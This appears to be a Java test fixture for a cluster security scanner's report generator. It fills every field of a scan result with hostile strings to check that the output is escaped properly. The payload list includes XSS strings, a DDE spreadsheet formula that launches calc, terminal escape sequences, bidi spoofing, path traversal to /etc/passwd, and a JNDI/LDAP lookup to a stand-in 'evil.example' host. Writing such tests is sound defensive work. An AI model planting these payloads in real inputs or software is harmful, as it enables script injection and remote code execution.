package io.github.widscan.report;

import io.github.widscan.result.Confidence;
import io.github.widscan.result.Credential;
import io.github.widscan.result.CredentialMethod;
import io.github.widscan.result.Finding;
import io.github.widscan.result.InventoryEntry;
import io.github.widscan.result.Location;
import io.github.widscan.result.Notification;
import io.github.widscan.result.NotificationLevel;
import io.github.widscan.result.Provider;
import io.github.widscan.result.Resource;
import io.github.widscan.result.RuleInfo;
import io.github.widscan.result.ScanResult;
import io.github.widscan.result.SourceCoverage;
import io.github.widscan.result.SourceState;
import io.github.widscan.result.SuppressedBy;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/** A result in which whoever names objects in the cluster tries to break out of every format. */
public final class HostileResult {

    /** One attack each: HTML, script, link, spreadsheet, terminal, text direction, JSON, paths, length. */
    public static final List<String> STRINGS = List.of(
            "\"><img src=x onerror=alert(1)>",
            "</script><script>alert(2)</script>",
            "javascript:alert(3)",
            "=cmd|' /C calc'!A0",
            "\u00a0\t+1+1",
            "first\r\n-2+3\n@SUM(1)",
            "＝1＋1",
            "\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007 \u009b2J",
            "safe\u202egnp.exe\u2066 \u200b\u061c",
            "line\u2028separator\u2029paragraph\u0085next",
            "nul\u0000bell\u0007backspace\b\u007f",
            "lone high \ud83d and low \ude00 surrogate, pair \ud83d\ude00",
            "${jndi:ldap://evil.example/a} {{7*7}} <%= 7 %> [text](javascript:alert(4)) `code` |cell|",
            "../../../etc/passwd%00#frag?query=1&a=b c:\\d",
            "long ".repeat(400));

    private HostileResult() {}

    static ScanResult hostile() {
        List<Finding> findings = new ArrayList<>();
        List<InventoryEntry> inventory = new ArrayList<>();
        List<Notification> notifications = new ArrayList<>();
        List<SourceCoverage> sources = new ArrayList<>();
        for (int i = 0; i < STRINGS.size(); i++) {
            String evil = STRINGS.get(i);
            Resource resource = new Resource(i % 2 == 0 ? null : evil, evil, evil, evil, evil, evil, null);
            RuleInfo rule = new RuleInfo(
                    SampleRules.SEC_001.id(),
                    SampleRules.SEC_001.title(),
                    SampleRules.SEC_001.ruleClass(),
                    SampleRules.SEC_001.severities(),
                    SampleRules.SEC_001.clouds(),
                    SampleRules.SEC_001.description(),
                    SampleRules.SEC_001.remediation(),
                    List.of(evil),
                    List.of(evil));
            FindingBuilder finding = FindingBuilder.of(rule, "hostile-" + i)
                    .title(evil)
                    .message(evil)
                    .remediation(evil)
                    .confidence(Confidence.HEURISTIC)
                    .resource(resource)
                    .identity(Provider.AWS, evil, evil)
                    .evidence(Map.of(evil, evil, "list", List.of(evil), "map", Map.of(evil, evil)))
                    .excerpt(evil)
                    .owner(evil);
            if (i % 2 == 0) {
                finding.location(new Location(evil, 1, 1, 1, 2, evil, "0:1"));
            }
            if (i % 3 == 0) {
                finding.suppressed(SuppressedBy.FILE, evil, "2027-01-01");
            }
            if (i % 5 == 1) {
                finding.unknown(evil, evil);
            }
            findings.add(finding.build());
            inventory.add(new InventoryEntry(
                    resource, evil, 1, List.of(new Credential(CredentialMethod.IRSA, Provider.AWS, evil, evil))));
            notifications.add(new Notification(NotificationLevel.ERROR, evil, evil, evil, 1));
            sources.add(new SourceCoverage(evil, evil, SourceState.DENIED, evil));
        }
        return SampleResults.result(sources, findings, inventory, notifications);
    }
}
